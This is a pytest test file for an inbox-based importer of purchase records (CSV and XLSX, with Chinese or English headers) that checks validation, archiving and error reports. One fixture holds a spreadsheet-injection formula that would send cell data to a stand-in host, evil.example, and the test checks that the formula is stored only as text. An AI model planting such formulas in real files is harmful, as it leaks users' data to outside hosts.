"""Purchase records through the inbox, on SQLite and PostgreSQL."""

from __future__ import annotations

import datetime as dt

from intake_world import (  # type: ignore[import-not-found]
    NOW,
    PURCHASE_HEADER_EN,
    PURCHASE_HEADER_ZH,
    codes,
    purchase,
    snapshot,
    statuses,
    write_csv,
    write_xlsx,
)
from sqlalchemy import select

from ecqm.warehouse.schema import inbox_files, purchases
from transforms.intake import import_file

UTC = dt.UTC


def _purchases(engine) -> dict[tuple[str, str], dict]:
    with engine.connect() as conn:
        return {
            (r.task_id, r.order_number): dict(r._mapping) for r in conn.execute(select(purchases))
        }


def test_a_gbk_csv_with_chinese_headers_is_taken_and_archived(world, home):
    inbox = home / "inbox" / "purchases"
    path = write_csv(
        inbox / "11月采购记录.csv",
        PURCHASE_HEADER_ZH,
        [
            purchase(),
            purchase(
                "T-DRYER",
                "3391827465501930001",
                paid="1,099.00",
                purchase_video="https://pan.example.cn/s/录像1",
                received_at="",
                sample_seal="",
                backup_seal="",
                logistics_company="",
                tracking_number="",
                condition="",
            ),
        ],
        encoding="gbk",
    )
    data = path.read_bytes()
    report = import_file(world, "purchases", path, home=home, now=NOW)

    assert report.status == "accepted", [str(p) for p in report.problems]
    assert (report.rows, report.inserted, report.tasks_advanced) == (2, 2, 2)
    assert report.task_ids == ["T-DRYER", "T-KETTLE"]
    rows = _purchases(world)
    kettle = rows[("T-KETTLE", "3391827465501928374")]
    assert kettle["paid_fen"] == 8950 and type(kettle["paid_fen"]) is int
    assert kettle["ordered_at"] == dt.datetime(2026, 11, 20, 7, 30, tzinfo=UTC)
    assert kettle["received_at"] == dt.datetime(2026, 11, 21, 2, 5, tzinfo=UTC)
    assert kettle["evidence"] == {
        "page_screenshot": ["T-KETTLE-page.png"],
        "order_screenshot": ["T-KETTLE-order.png"],
    }
    assert (kettle["sample_seal"], kettle["backup_seal"]) == ("FTTLE01", "FTTLE02")
    assert kettle["shop_name"] == "暖心电器旗舰店" and kettle["condition"] == "外包装完好"
    assert kettle["source_file"] == "11月采购记录.csv" and kettle["file_sha256"] == report.sha256
    dryer = rows[("T-DRYER", "3391827465501930001")]
    assert dryer["paid_fen"] == 109900 and dryer["received_at"] is None
    assert dryer["evidence"]["purchase_video"] == ["https://pan.example.cn/s/录像1"]
    assert statuses(world)["T-KETTLE"] == "purchased" == statuses(world)["T-DRYER"]

    archived = home / "inbox" / "archive" / "purchases" / f"{report.sha256}.csv"
    assert report.archived_as == str(archived) and archived.read_bytes() == data
    assert not path.exists() and list(inbox.iterdir()) == []
    with world.connect() as conn:
        record = conn.execute(select(inbox_files)).one()
    assert (record.kind, record.status, record.rows, record.problems) == (
        "purchases",
        "accepted",
        2,
        [],
    )
    assert record.archived_as == f"inbox/archive/purchases/{report.sha256}.csv"
    assert record.file_name == "11月采购记录.csv" and record.received_at == NOW


def test_an_xlsx_with_english_headers_excel_cells_and_a_hostile_cell(world, home):
    hostile = '=HYPERLINK("http://evil.example/?q="&A2,"查看")'
    path = write_xlsx(
        home / "inbox" / "purchases" / "purchases.xlsx",
        PURCHASE_HEADER_EN,
        [
            purchase(
                "T-NOLAB",
                339182746550.0,  # order number typed into a number cell, 12 digits: intact
                paid=89.5,
                ordered_at=dt.datetime(2026, 11, 20, 23, 45),
                received_at=dt.datetime(2026, 11, 21, 10, 5),
                tracking_number=75310293847.0,
                sample_seal=20261101,
                backup_seal=None,  # the task keeps no backup sample
                condition=hostile,
            ),
            [None] * len(PURCHASE_HEADER_EN),
            [None] * len(PURCHASE_HEADER_EN),
        ],
    )
    report = import_file(world, "purchases", path, home=home, now=NOW)
    assert report.status == "accepted", [str(p) for p in report.problems]
    row = _purchases(world)[("T-NOLAB", "339182746550")]
    assert row["paid_fen"] == 8950
    assert row["ordered_at"] == dt.datetime(2026, 11, 20, 15, 45, tzinfo=UTC)
    assert row["tracking_number"] == "75310293847" and row["sample_seal"] == "20261101"
    assert row["condition"] == hostile  # stored as text, never evaluated
    assert report.archived_as.endswith(".xlsx")


def test_every_problem_is_named_by_row_and_column_and_nothing_is_written(world, home):
    before = snapshot(world)
    spare = dict(task="T-SPARE", received_at="", sample_seal="", backup_seal="")
    rows = [
        purchase(),  # row 2: fine on its own
        purchase("t-dryer", "A1"),  # 3: no such task (a hint names T-DRYER)
        purchase("T-CLOSED", "A2", sample_seal="C1", backup_seal="C2"),  # 4: cancelled
        purchase(**spare, order="A3", paid="¥350.00"),  # 5: over the ¥300 cap
        purchase(**spare, order="A4", ordered_at="2026-11-23 09:00"),  # 6: future
        purchase(
            "T-SPARE", "A5", received_at="2026-11-19 10:00", sample_seal="E1", backup_seal="E2"
        ),  # 7: received before it was ordered
        purchase("T-SPARE", "A6", sample_seal="S-9", backup_seal="S-9"),  # 8: one seal for both
        purchase(sample_seal="F1", backup_seal="F2"),  # 9: repeats row 2's task and order
        purchase(
            **spare,
            order="A7",
            paid="八十九",
            ordered_at="2026-11-20",
            page_screenshot="",
            order_screenshot="已截图",
        ),  # 10
        purchase("T-SPARE", "3.39183E+18", sample_seal="", backup_seal=""),  # 11
        purchase("T-DRYER", "3391827465501928374", sample_seal="G1", backup_seal="G2"),  # 12
        purchase(**spare, order="A8")[:12] + ["H1", "H2", ""],  # 13: seals but no receipt
        purchase("T-SPARE", "A9", sample_seal="FTTLE01", backup_seal="J2"),  # 14: row 2's seal
        purchase(**spare, order="A10", ordered_at="2026-10-30 10:00"),  # 15: warning only
        [""] * len(PURCHASE_HEADER_ZH),  # 16: blank
        purchase(**spare, order="A11", paid="0"),  # 17
        purchase(**spare, order="A" * 65),  # 18: longer than the warehouse holds
    ]
    path = write_csv(home / "inbox" / "purchases" / "采购记录.csv", PURCHASE_HEADER_ZH, rows)
    report = import_file(world, "purchases", path, home=home, now=NOW)

    assert report.status == "rejected"
    assert codes(report) == {
        (3, "task_id", "unknown_task"),
        (4, "task_id", "task_closed"),
        (5, "paid", "over_price_cap"),
        (6, "ordered_at", "future_time"),
        (7, "received_at", "received_before_ordered"),
        (8, "backup_seal", "same_seals"),
        (9, "order_number", "duplicate_row"),
        (10, "paid", "bad_amount"),
        (10, "ordered_at", "time_missing"),
        (10, "page_screenshot", "required"),
        (10, "order_screenshot", "bad_reference"),
        (11, "order_number", "number_lost_digits"),
        (11, "sample_seal", "seal_missing"),
        (11, "backup_seal", "seal_missing"),
        (12, "order_number", "order_on_two_tasks"),
        (13, "received_at", "received_missing"),
        (14, "sample_seal", "seal_reused"),
        (15, "ordered_at", "ordered_before_task"),
        (17, "paid", "bad_amount"),
        (18, "order_number", "too_long"),
    }
    assert {p.code for p in report.warnings} == {"ordered_before_task"}
    by_code = {p.code: p for p in report.problems}
    assert by_code["unknown_task"].column == "任务编号" and by_code["unknown_task"].cell == "A3"
    assert "T-DRYER" in by_code["unknown_task"].reason  # the case-insensitive hint
    assert (
        by_code["over_price_cap"].value == "¥350.00"
        and "¥300.00" in by_code["over_price_cap"].reason
    )
    assert (
        "row 2" in by_code["duplicate_row"].reason and "第 2 行" in by_code["duplicate_row"].reason
    )

    # Nothing written but the record of the rejection; the tasks did not move.
    after = snapshot(world)
    assert after["purchases"] == before["purchases"] == []
    assert after["sampling_tasks"] == before["sampling_tasks"]
    with world.connect() as conn:
        record = conn.execute(select(inbox_files)).one()
    assert record.status == "rejected" and record.archived_as is None and record.rows == 16
    assert {(p.get("row"), p["code"]) for p in record.problems} == {
        (r, c) for r, _, c in codes(report)
    }

    # The file left the inbox for rejected/, its error report beside it, in Excel's UTF-8.
    moved = home / "inbox" / "rejected" / "purchases" / "采购记录.csv"
    assert not path.exists() and report.rejected_as == str(moved) and moved.exists()
    errors = moved.with_name("采购记录.csv.errors.csv")
    assert report.error_report == str(errors)
    raw = errors.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("行 row,列 column,单元格 cell")
    assert lines[1].startswith("3,任务编号,A3,t-dryer,错误 error,")
    assert lines[-1].startswith("15,下单时间,D15,") and "警告 warning" in lines[-1]
    assert len(lines) == 1 + len(report.problems)


def test_conflicts_with_recorded_purchases_and_corrections(world, home):
    first = write_csv(home / "a.csv", PURCHASE_HEADER_ZH, [purchase(order="O-1")])
    assert import_file(world, "purchases", first, home=home, now=NOW).status == "accepted"
    assert first.exists()  # from outside the inbox: archived, never moved

    clash = write_csv(
        home / "b.csv",
        PURCHASE_HEADER_ZH,
        [
            purchase("T-SPARE", "O-1", sample_seal="K1", backup_seal="K2"),
            purchase("T-SPARE", "O-2", sample_seal="FTTLE01", backup_seal="K3"),
        ],
    )
    report = import_file(world, "purchases", clash, home=home, now=NOW)
    assert codes(report) == {
        (2, "order_number", "order_on_two_tasks"),
        (3, "sample_seal", "seal_reused"),
    }
    assert clash.exists() and (home / "b.csv.errors.csv").exists()

    # The buyer corrects the tracking number and adds the spare task's order.
    fixed = write_csv(
        home / "b.csv",
        PURCHASE_HEADER_ZH,
        [
            purchase(order="O-1", tracking_number="SF1402938475699"),
            purchase("T-SPARE", "O-2", sample_seal="K1", backup_seal="K3"),
        ],
    )
    report = import_file(world, "purchases", fixed, home=home, now=NOW)
    assert report.status == "accepted", [str(p) for p in report.problems]
    assert (report.inserted, report.updated, report.unchanged) == (1, 1, 0)
    assert not (home / "b.csv.errors.csv").exists()  # the stale report went
    rows = _purchases(world)
    assert rows[("T-KETTLE", "O-1")]["tracking_number"] == "SF1402938475699"
    assert rows[("T-KETTLE", "O-1")]["source_file"] == "b.csv"

    # A new file holding the same rows writes nothing; the rows keep their source.
    again = write_csv(
        home / "c.csv",
        PURCHASE_HEADER_EN,
        [purchase(order="O-1", tracking_number="SF1402938475699")],
    )
    report = import_file(world, "purchases", again, home=home, now=NOW)
    assert (report.status, report.inserted, report.updated, report.unchanged) == (
        "accepted",
        0,
        0,
        1,
    )
    assert _purchases(world)[("T-KETTLE", "O-1")]["source_file"] == "b.csv"
